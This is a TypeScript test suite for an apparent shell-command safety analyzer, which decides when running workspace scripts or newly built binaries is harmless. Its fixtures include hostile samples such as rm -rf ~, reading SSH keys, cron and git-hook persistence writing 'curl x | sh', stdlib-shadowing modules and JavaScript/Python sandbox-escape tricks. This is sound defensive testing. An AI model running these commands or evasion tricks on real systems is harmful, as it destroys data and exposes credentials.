// The project's own programs read before they run: interpreter runs of workspace files (JavaScript/TypeScript,
// Python) marked only when every file read is inert, and programs built earlier in the same line. Real files in a
// temp folder, read through a file-system reader; nothing here is ever run.
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { shellEnv } from '../testdata/shell-env';
import type { ScriptFile } from '../types';
import { scanJavaScript, scanPython } from './code-imports';

let ws = '';
let home = '';

const FILES: Record<string, string> = {
  'dist/cli.js':
    "import { join } from 'node:path';\nimport { fmt } from './fmt.js';\nconsole.log(fmt(join('a', process.argv[2] ?? '')));\n",
  'dist/fmt.js': 'export const fmt = (s) => s.toUpperCase();\n',
  'dist/spawn.js': "import { fmt } from './lib/evil.js';\nconsole.log(fmt('x'));\n",
  'dist/lib/evil.js':
    "import { execSync } from 'node:child_process';\nexport const fmt = (s) => execSync(s).toString();\n",
  'dist/net.js': "const net = require('net');\nnet.connect(443, 'x.example');\n",
  'dist/rm.js': "const fs = require('fs');\nfs.rmSync(process.env.HOME, { recursive: true });\n",
  'dist/dyn.js': "const name = 'child_' + 'process';\nrequire(name).exec('id');\n",
  'dist/pkg.js': "import express from 'express';\nexpress().listen(3000);\n",
  'dist/secret.js': 'console.log(process.env.GITHUB_TOKEN);\n',
  'dist/ctor.js': "const f = (() => 0)['constr' + 'uctor'];\nf('return 1')();\n",
  'dist/class.js':
    "import { fmt } from './fmt.js';\nexport class Greeter {\n  name;\n  constructor(name) {\n    this.name = name;\n  }\n  greet() { return fmt(this.name); }\n}\nclass B{constructor(x){this.x=x}}\nconsole.log(new Greeter(process.argv[2] ?? 'w').greet(), new B(1).x);\n",
  'dist/ctor-dot.js': "const f = (() => 0).\nconstructor('return process')();\n",
  'dist/ctor-with.js': "with ((() => 0)) { constructor('return 1')(); }\n",
  'dist/ctor-prop.js': "const { constructor: F } = () => 0;\nF('return 1')();\n",
  'src/index.ts': "import { add } from './math';\nconsole.log(add(1, 2));\n",
  'src/math.ts': 'export const add = (a: number, b: number) => a + b;\n',
  'scripts/report.py':
    'import json\nfrom helpers import total\nprint(json.dumps({"total": total([1, 2])}))\n',
  'scripts/helpers.py': 'def total(xs):\n    return sum(xs)\n',
  'scripts/ssh.py': 'from pathlib import Path\nprint(Path.home().joinpath(".ssh/id_rsa").read_text())\n',
  'scripts/shell.py': 'import subprocess\nsubprocess.run(["sh", "-c", "id"])\n',
  'scripts/via.py': 'from helpers2 import go\ngo()\n',
  'scripts/helpers2.py': 'import socket\ndef go():\n    socket.create_connection(("x.example", 443))\n',
  'scripts/hash.py': 'x = "#"; __import__("os").system("id")\n',
  'shadow/main.py': 'import json\nprint(json.dumps(1))\n',
  'shadow/json.py': 'import os\nos.system("id")\n',
  'scripts/intro.py': 'print(().__class__.__bases__[0].__subclasses__())\n',
  'app/__init__.py': '',
  'app/cli.py': 'from . import util\nprint(util.name())\n',
  'app/util.py': 'def name():\n    return "app"\n',
  'app/__main__.py': 'from app.cli import *\n',
  'stdshadow/main.py': 'import json\nprint(json.dumps(1))\n',
  'stdshadow/enum.py': 'import os\nos.system("id")\n',
  'stdns/json/notes.txt': 'a namespace folder, not a package\n',
  'stdns/main.py': 'import json\nprint(json.dumps(1))\n',
  'Cargo.toml': '[package]\nname = "relay"\nversion = "0.1.0"\n',
  'bin/old.sh': '#!/bin/sh\nrm -rf ~\n',
  'data/events.json': '[{"id": 1}]\n',
  'pysrc/quarry/__init__.py': '',
  'pysrc/quarry/dates.py': 'def week_start(d):\n    """The Monday of the week."""\n    return d\n',
  'pysrc/quarry/evil.py': 'import os\nos.system("id")\n',
  'pyshadow/enum.py': 'import os\nos.system("id")\n',
  'nspath/nsq/dates.py': 'def f():\n    return 1\n',
  'nsq/__init__.py': 'import os\nos.system("id")\n',
  'mlshadow/torch.py': 'import os\nos.system("id")\n',
  'mlpkg/torch/__init__.py': 'import os\nos.system("id")\n',
  'mlext/torch.so': 'not really an extension module\n',
};

/** A file-system reader as the surface gives one (regular files only). */
const reader = (abs: string): ScriptFile => {
  try {
    const stat = statSync(abs);
    // A folder is listed (its entry names), as the surface's reader lists one.
    if (stat.isDirectory())
      return { kind: 'unreadable', why: 'not-regular', entries: readdirSync(abs).sort() };
    if (!stat.isFile()) return { kind: 'unreadable', why: 'not-regular' };
    return { kind: 'text', text: readFileSync(abs, 'utf8') };
  } catch {
    return { kind: 'missing' };
  }
};

beforeAll(async () => {
  await loadShellParser();
  ws = mkdtempSync(join(tmpdir(), 'wsprog-ws-'));
  home = mkdtempSync(join(tmpdir(), 'wsprog-home-'));
  for (const [name, text] of Object.entries(FILES)) {
    mkdirSync(dirname(join(ws, name)), { recursive: true });
    writeFileSync(join(ws, name), text);
  }
  mkdirSync(join(home, '.ssh'));
  writeFileSync(join(home, '.ssh', 'id_ed25519'), 'not a key\n');
  symlinkSync(join(home, '.ssh', 'id_ed25519'), join(ws, 'data', 'key.json'));
});
afterAll(() => {
  rmSync(ws, { recursive: true, force: true });
  rmSync(home, { recursive: true, force: true });
});

const env = () =>
  shellEnv({ cwd: ws, home, workspaceRoots: [ws], tempDirs: ['/var/tmp'], readScript: reader });
/** The words each segment marked a workspace program was given, by program. */
const marked = (command: string) =>
  analyzeShellSync(command, env())
    .segments.filter((s) => s.workspaceProgram !== undefined)
    .map((s) => [s.program, ...(s.workspaceProgram ?? [])].join(' '));

describe('interpreter runs of workspace files', () => {
  it.each([
    ['node of a file importing a relative inert file', 'node dist/cli.js --help', ['node --help']],
    ['tsx of TypeScript with an extensionless import', 'npx tsx src/index.ts', ['tsx']],
    ['ts-node without a tsconfig', 'ts-node src/index.ts', ['ts-node']],
    ['python of a script importing a module beside it', 'python3 scripts/report.py -v', ['python3 -v']],
    ['python -m of a package module with a relative import', 'python -m app.cli', ['python']],
    ['python -m of a package runs its __main__.py', 'python -m app', ['python']],
    ['a known option of the interpreter', 'node --enable-source-maps dist/cli.js', ['node']],
    ['built output declaring class constructors', 'node dist/class.js --help', ['node --help']],
    ['a folder named like a standard module without __init__.py', 'python stdns/main.py', ['python']],
    [
      'python -c of standard modules no file replaces',
      `python3 -c "import json,sys; print(json.dumps({'a': 1}))"`,
      ['python3'],
    ],
    [
      'python -c of a module found in a folder the code puts first on the path',
      `python3 -c 'import sys; sys.path.insert(0, "pysrc"); from quarry.dates import week_start; print(week_start.__doc__)'`,
      ['python3'],
    ],
    [
      'python -c of a workspace module',
      'python -c "import scripts.helpers; print(scripts.helpers.__file__)"',
      ['python'],
    ],
    [
      'python -c asking installed modules their versions',
      `python3 -c "import torch, numpy as np; print(torch.__version__, np.__version__, torch.version.cuda)"`,
      ['python3'],
    ],
    ['python -c importing an installed module only', 'python -c "import flask"', ['python']],
    [
      'python -c asking an installed framework which devices it sees',
      'python -c "import torch; print(torch.cuda.is_available())"',
      ['python'],
    ],
  ])('marked: %s', (_n, command, want) => {
    expect(marked(command)).toEqual(want);
  });

  it.each([
    ['imports a relative file that spawns', 'node dist/spawn.js'],
    ['opens a socket', 'node dist/net.js'],
    ['deletes files', 'node dist/rm.js'],
    ['a computed require', 'node dist/dyn.js'],
    ['a package whose code is not read', 'node dist/pkg.js'],
    ['reads a secret variable', 'node dist/secret.js'],
    ['builds a property name to reach Function', 'node dist/ctor.js'],
    ['reaches Function through .constructor across a line', 'node dist/ctor-dot.js'],
    ['a with block putting a function in scope', 'node dist/ctor-with.js'],
    ['destructures constructor', 'node dist/ctor-prop.js'],
    ['a missing file', 'node dist/missing.js'],
    ['reads ~/.ssh', 'python scripts/ssh.py'],
    ['spawns a shell', 'python scripts/shell.py'],
    ['imports a workspace module that opens a socket', 'python scripts/via.py'],
    ['hides a call after a # inside a string', 'python scripts/hash.py'],
    ['a workspace json.py shadows the standard module', 'python shadow/main.py'],
    ['introspection through dunders', 'python scripts/intro.py'],
    ['a workspace enum.py replaces what the standard json imports', 'python stdshadow/main.py'],
    [
      'python -c where a workspace json.py shadows the standard one',
      'cd shadow && python3 -c "import json; print(json.dumps(1))"',
    ],
    [
      'python -c where a workspace enum.py replaces a standard import',
      'cd stdshadow && python3 -c "import json; print(1)"',
    ],
    ['python -c of a module that spawns', 'python3 -c "import subprocess; subprocess.run([\'id\'])"'],
    [
      'python -c reaching a module through a private name',
      `python3 -c "import collections; collections._sys.modules['o'+'s'].execv('/bin/sh', ['sh'])"`,
    ],
    [
      'python -c reaching files through a module of a module',
      `python3 -c "import json; print(json.codecs.lookup('x'))"`,
    ],
    ['python -c of a module entry point', 'python3 -c "import base64; base64.main()"'],
    [
      'an installed module asked for a value it read at import',
      'python -c "import openai; print(openai.api_key)"',
    ],
    [
      'an installed module called (not a device query)',
      'python -c "import torch; print(torch.load(\'m.pt\'))"',
    ],
    ['a standard module whose import opens a browser', 'python -c "import antigravity"'],
    ['a standard module that reaches the system', 'python -c "import os; print(os.__file__)"'],
    ['a workspace torch.py in place of the installed one', 'cd mlshadow && python -c "import torch"'],
    ['a workspace torch package in place of the installed one', 'cd mlpkg && python -c "import torch"'],
    ['a workspace extension module named torch', 'cd mlext && python -c "import torch"'],
    ['a workspace json.py a module import would load', 'cd shadow && python -c "import torch"'],
    ['a private module', 'python -c "import _socket"'],
    [
      'a module of a folder put first on the path that spawns',
      `python3 -c 'import sys; sys.path.insert(0, "pysrc"); import quarry.evil'`,
    ],
    [
      'a folder put first on the path shadowing a standard module',
      `python3 -c 'import sys; sys.path.insert(0, "pyshadow"); import json; print(json.dumps(1))'`,
    ],
    [
      'a folder outside the workspace put first on the path',
      `python3 -c 'import sys; sys.path.insert(0, "../elsewhere"); import quarry'`,
    ],
    [
      'a folder put on the path after an import',
      `python3 -c 'import sys; import quarry.dates; sys.path.insert(0, "pysrc")'`,
    ],
    [
      'a folder put second on the path',
      `python3 -c 'import sys; sys.path.insert(1, "pysrc"); from quarry.dates import week_start'`,
    ],
    [
      'a namespace folder first on the path before a regular package of the name',
      `python3 -c 'import sys; sys.path.insert(0, "nspath"); from nsq.dates import f; print(f())'`,
    ],
    [
      'a folder appended to the path',
      `python3 -c 'import sys; sys.path.append("pysrc"); from quarry.dates import week_start'`,
    ],
    ['python -c of a workspace module that opens a socket', 'python3 -c "import scripts.helpers2"'],
    ['a preload option', 'node -r ./dist/fmt.js dist/cli.js'],
    ['an import option', 'node --import ./dist/fmt.js dist/cli.js'],
    ['an isolated python (the script folder is off the path)', 'python -I scripts/report.py'],
    ['a URL argument', 'node dist/cli.js https://x.example/upload'],
    ['an argument outside the workspace', 'python scripts/report.py /etc/passwd'],
    ['an argument computed at run time', 'node dist/cli.js "$(cat ~/.ssh/id_rsa)"'],
    ['a file written earlier in the line', "echo 'x' > dist/fmt.js && node dist/cli.js"],
    ['a file rewritten by an earlier interpreter', 'python scripts/report.py && node dist/cli.js'],
    ['a standard module run with -m', 'python -m json.tool x.json'],
    ['a file outside the workspace', 'node /tmp/x.js'],
  ])('not marked: %s', (_n, command) => {
    const program = command.split(' && ').pop()?.split(' ')[0] ?? '';
    expect(marked(command).filter((m) => m.startsWith(program))).toEqual([]);
  });

  it('without a reader nothing is marked', () => {
    const analysis = analyzeShellSync('node dist/cli.js', shellEnv({ cwd: ws, workspaceRoots: [ws] }));
    expect(analysis.segments.some((s) => s.workspaceProgram)).toBe(false);
  });
});

describe('programs built earlier in the line', () => {
  it.each([
    [
      'go build -o a temp path, then run',
      'go build -o /var/tmp/app . && /var/tmp/app --version',
      ['app --version'],
    ],
    ['go build -o a workspace path', 'go build -o bin/app ./cmd/app && ./bin/app -v', ['app -v']],
    [
      'cargo build, then the package binary',
      'cargo build && ./target/debug/relay --input data/u.csv',
      ['relay --input data/u.csv'],
    ],
    ['cargo build --release', 'cargo build --release && ./target/release/relay', ['relay']],
    ['cc -o', 'cc -o hello main.c && ./hello', ['hello']],
  ])('marked: %s', (_n, command, want) => {
    expect(marked(command)).toEqual(want);
  });

  it.each([
    ['a URL argument', 'go build -o bin/app . && ./bin/app https://x.example/upload'],
    ['nothing built it', './bin/app --version'],
    ['a binary name the manifest does not give', 'cargo build && ./target/debug/other'],
    ['a debug build run from release', 'cargo build && ./target/release/relay'],
    ['a script there now, not a build output', 'go build -o bin/old.sh . && ./bin/old.sh'],
    ['another output than the one built', 'go build -o bin/app . && ./bin/other'],
  ])('not marked: %s', (_n, command) => {
    expect(marked(command)).toEqual([]);
  });

  it('not marked: a program already there outside the workspace (run instead when the build fails)', () => {
    const out = mkdtempSync(join(tmpdir(), 'wsprog-out-'));
    try {
      writeFileSync(join(out, 'app'), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0]));
      expect(marked(`go build -o ${out}/app . ; ${out}/app --version`)).toEqual([]);
      expect(marked(`go build -o ${out}/new . && ${out}/new --version`)).toEqual(['new --version']);
    } finally {
      rmSync(out, { recursive: true, force: true });
    }
  });
});

describe('closed scans', () => {
  it.each([
    ['plain computation', 'const a = [1, 2].map((x) => x * 2);\nconsole.log(a[0]);\n', true],
    ['a node: built-in that computes', "import { join } from 'node:path';\nconsole.log(join('a'));\n", true],
    ['child_process', "require('child_process').exec('id')", false],
    ['fs', "import { writeFileSync } from 'node:fs';\n", false],
    ['eval', 'eval("1")', false],
    ['new Function', 'new Function("return 1")()', false],
    ['fetch', "fetch('https://x.example')", false],
    ['a unicode escape in an identifier', '\\u0065val("1")', false],
    ['process.binding', "process.binding('spawn_sync')", false],
    ['process aliased', 'const p = process;\np.binding("fs")', false],
    ['a named variable', 'console.log(process.env.NODE_ENV)', true],
    ['process.env whole', 'console.log(JSON.stringify(process.env))', false],
    ['a computed import', 'await import(name)', false],
    ['worker_threads', "import { Worker } from 'worker_threads';", false],
    // Rule, plugin and level names a configuration quotes are data (fifteenth session): eslint's `no-eval`,
    // `import/order`, `security/detect-child-process` named a reaching word and made the config unknown.
    [
      'rule names quoted as data',
      'export default [{ rules: { "no-eval": "error", "import/order": "warn", "security/detect-child-process": "error" } }];',
      true,
    ],
    ['a quoted word read by brackets', 'const f = globalThis["eval"];', false],
    ['a property named by brackets', 'const e = o["eval"];\ne("1")', false],
    ['the prototype chain named in a string', 'const o = { "__proto__": evil };', false],
    ['a quote inside a regular expression hiding code', "const ok = /'/.test(s) && eval(t) && '/';", false],
    [
      'a quote inside a regular expression hiding a process use',
      "/'/.test(s); process.binding('fs'); '/'",
      false,
    ],
  ])('javascript: %s', (_n, code, inert) => {
    expect(scanJavaScript(code).inert).toBe(inert);
  });

  it.each([
    ['plain computation', 'def f(x):\n    return x * 2\nprint(f(2))\n', true],
    ['inert standard modules', 'import json, re\nfrom collections import Counter\n', true],
    ['an import (followed, judged by the detector)', 'import os\n', true],
    ['an import after a semicolon', 'x = 1; import socket\n', false],
    ['an import inside a block', 'if True:\n    import socket\n', true],
    ['open', 'print(open("x").read())\n', false],
    ['getattr', 'getattr(__builtins__, "ex" + "ec")\n', false],
    ['non-ASCII identifiers', 'ｅｘｅｃ("1")\n', false],
    // Reached through an inert module's own attributes, not its import.
    ['a private module attribute', 'import random\nrandom._os.execv("/bin/sh", ["sh"])\n', false],
    [
      'a module behind another',
      'import dataclasses\nprint(dataclasses.inspect.linecache.getline("k", 1))\n',
      false,
    ],
    ['exec-family names', 'import collections\ncollections.execvp("sh", [])\n', false],
    ['a public attribute of an inert module', 'import json\nprint(json.decoder.JSONDecodeError)\n', true],
    [
      'the standard streams and arguments read as values',
      'import json, sys\nprint(json.load(sys.stdin)[sys.argv[1]])\n',
      true,
    ],
    ['sys.exit', 'import sys\nsys.exit(1)\n', true],
    ['a standard stream replaced', 'import sys\nsys.stdin = open("/etc/passwd")\n', false],
    ['an attribute of a stream set', 'import sys\nsys.stdout.write = print\n', false],
    ['the import path', 'import sys\nsys.path.insert(0, "/tmp")\n', false],
    ['the module table', 'import sys\nprint(sys.modules)\n', false],
    ['sys alone', 'import sys\nx = sys\n', false],
    // A file object writes where it was opened; inert code can open nothing but by a literal name.
    ['a standard stream written', 'import sys\nsys.stdout.write("x")\nsys.stderr.writelines(["y"])\n', true],
    ['an opener of argparse', 'import argparse\nargparse.FileType("w")("/etc/x").write("x")\n', false],
    [
      'the raw file of a stream',
      'import sys\nprint(type(sys.stdin.buffer.raw)("/etc/shadow").read())\n',
      false,
    ],
    ['a write method named otherwise', 'import sys\nsys.stdout.write_through\n', false],
    [
      'the raw file a stream detaches',
      'import sys\ntype(sys.stdin.buffer.detach())("/etc/x", "a").write(b"x")\n',
      false,
    ],
    ['the type of a stream', 'import sys\nt = type(sys.stdout)\n', false],
    [
      'a detached raw file through a name',
      'import sys\nb = sys.stdin.buffer.detach()\nprint(type(b)("/etc/x").read())\n',
      false,
    ],
  ])('python: %s', (_n, code, inert) => {
    expect(scanPython(code).inert).toBe(inert);
  });
});

describe('python -c in a folder holding a module named like a standard one', () => {
  const codes = (command: string) => analyzeShellSync(command, env()).uncertain.map((u) => u.code);
  it.each([
    // Python 3.13 imports traceback to print an uncaught error: any code may import a standard module.
    ['code importing nothing', `cd stdshadow && python3 -c "print(int('x'))"`],
    ['code on standard input', "cd stdshadow && python3 - <<'EOF'\nprint(1)\nEOF"],
    ['with other options', `cd stdshadow && python3 -u -c "print(1)"`],
  ])('uncertain: %s', (_n, command) => {
    expect(codes(command)).toContain('dynamic-script');
  });
  it.each([
    ['an isolated interpreter', `cd stdshadow && python3 -I -c "print(1)"`],
    ['a folder without one', `python3 -c "print(1)"`],
  ])('quiet: %s', (_n, command) => {
    expect(codes(command)).toEqual([]);
  });
});

describe('python -c opening files by name', () => {
  // Symlinks resolved as the surface resolves them (the real path of an existing file).
  const linked = () => ({
    ...env(),
    realpath: (abs: string) => {
      try {
        return realpathSync(abs);
      } catch {
        return undefined;
      }
    },
  });
  const hits = (command: string) => analyzeShellSync(command, linked()).hits.map((h) => h.category);
  const markedLinked = (command: string) =>
    analyzeShellSync(command, linked())
      .segments.filter((s) => s.workspaceProgram !== undefined)
      .map((s) => s.program);

  it.each([
    ['a workspace data file', `python3 -c "import json; print(len(json.load(open('data/events.json'))))"`],
    [
      'a read mode and an encoding',
      `python3 -c "print(open('data/events.json', 'r', encoding='utf-8').read())"`,
    ],
    ['platform facts', 'python3 -c "import platform; print(platform.python_version())"'],
    [
      'a CSV file counted',
      `python3 -c "import csv; print(sum(1 for _ in csv.DictReader(open('data/events.json'))))"`,
    ],
    [
      'a TOML file parsed',
      `python3 -c "import tomllib; print(tomllib.load(open('data/events.json', 'rb'))['project'])"`,
    ],
    ['two texts compared', `python3 -c "import difflib; print(''.join(difflib.unified_diff(['a'], ['b'])))"`],
    // Writes by a literal name are judged as the writes they are (below), as `>` is.
    ['a write mode', `python3 -c "open('data/events.json', 'w').write('x')"`],
    ['an append mode', `python3 -c "open('data/events.json', mode='a').write('x')"`],
  ])('marked: %s', (_n, command) => {
    expect(marked(command)).toEqual(['python3']);
  });

  it.each([
    ['a computed path', `python3 -c "p = 'data/' + 'events.json'; print(open(p).read())"`],
    ['a path outside the workspace', `python3 -c "print(open('/etc/hostname').read())"`],
    ['a path above the workspace', `python3 -c "print(open('../x.json').read())"`],
    ['a secret file', `python3 -c "print(open('.env').read())"`],
    ['a workspace link to a secret', `python3 -c "print(open('data/key.json').read())"`],
    ['open reached by another name', `python3 -c "o = open; print(o('data/events.json').read())"`],
    // shlex's lexer opens the file a `source` word names (its `sourcehook`).
    ['a lexer that opens files it reads of', `python3 -c "import shlex; print(list(shlex.shlex('x')))"`],
    [
      'a TOML file outside the workspace',
      `python3 -c "import tomllib; print(tomllib.load(open('/etc/x.toml', 'rb')))"`,
    ],
  ])('not marked: %s', (_n, command) => {
    expect(markedLinked(command)).toEqual([]);
  });

  it('reports a secret opened by name as a secret read', () => {
    expect(hits(`python3 -c "print(open('.env').read())"`)).toContain('secret_material_read');
    expect(hits(`python3 -c "print(open('data/key.json').read())"`)).toContain('secret_material_read');
  });

  const heredoc = (code: string) => `python3 - <<'PY'\n${code}\nPY`;
  const roles = (command: string) =>
    analyzeShellSync(command, linked())
      .segments.flatMap((seg) => seg.paths)
      .map((p) => `${p.role} ${p.raw}`);

  it.each([
    [
      'a here-document reading and writing one file through a name',
      heredoc(
        "import re\np = 'data/events.json'\ns = open(p).read()\nopen(p, 'w').write(re.sub('1', '2', s))",
      ),
    ],
    [
      'a pathlib edit through a name',
      heredoc(
        'from pathlib import Path\np = Path("data/events.json")\ns = p.read_text()\np.write_text(s.replace("1", "2"))',
      ),
    ],
    [
      'with-blocks and keyword arguments',
      heredoc(
        "path = 'data/events.json'\nwith open(path, encoding='utf-8') as f:\n    s = f.read()\nwith open(path, 'w', encoding='utf-8', newline='') as f:\n    f.write(s)\n    f.writelines(['x'])",
      ),
    ],
    ['python3 without a dash', "python3 <<'PY'\nprint(open('data/events.json').read())\nPY"],
  ])('marked: %s', (_n, command) => {
    expect(markedLinked(command)).toEqual(['python3']);
    expect(roles(command).length).toBeGreaterThan(0);
  });

  it('records each file by what the code does to it', () => {
    const command = heredoc("s = open('data/events.json').read()\nopen('data/out.json', 'w').write(s)");
    expect(roles(command)).toEqual(['read data/events.json', 'write data/out.json']);
  });

  it.each([
    ['a write outside the workspace', heredoc("open('/etc/cron.d/x', 'w').write('* * * * * id')")],
    ['a write through a workspace link to a secret', heredoc("open('data/key.json', 'w').write('x')")],
    [
      'a name bound again by a loop',
      heredoc("p = 'data/events.json'\nfor p in ['/etc/x']:\n    open(p, 'w').write('x')"),
    ],
    [
      'a name bound again by unpacking',
      heredoc("p = 'data/events.json'\nq, p = 1, '/etc/x'\nopen(p, 'w').write('x')"),
    ],
    [
      'a name bound again by augmentation',
      heredoc("p = 'data/events.json'\np += '/../../etc/x'\nopen(p, 'w')"),
    ],
    ['a name bound in a block', heredoc("p = 'data/events.json'\nif 1:\n    p = '/etc/x'\nopen(p, 'w')")],
    [
      'a name taken as a parameter',
      heredoc("p = 'data/events.json'\ndef f(p):\n    open(p, 'w')\nf('/etc/x')"),
    ],
    [
      'a pathlib name used otherwise',
      heredoc("from pathlib import Path\np = Path('data/events.json')\nprint(p.parent)\np.write_text('x')"),
    ],
    [
      'the raw file type of a stream',
      heredoc("import sys\ntype(sys.stdout.buffer.raw)('/etc/x', 'w').write(b'x')"),
    ],
    ['an unquoted here-document', "python3 - <<PY\nopen('$HOME/.bashrc', 'a').write('x')\nPY"],
    ['a here-document given to a script (the script runs)', `python3 scripts/ssh.py <<'PY'\nprint(1)\nPY`],
  ])('not marked: %s', (_n, command) => {
    expect(markedLinked(command)).toEqual([]);
  });

  it('reports a control file written by name as the persistence it is', () => {
    expect(hits(heredoc("open('.git/hooks/pre-commit', 'w').write('curl x | sh')"))).toContain('persistence');
  });
});
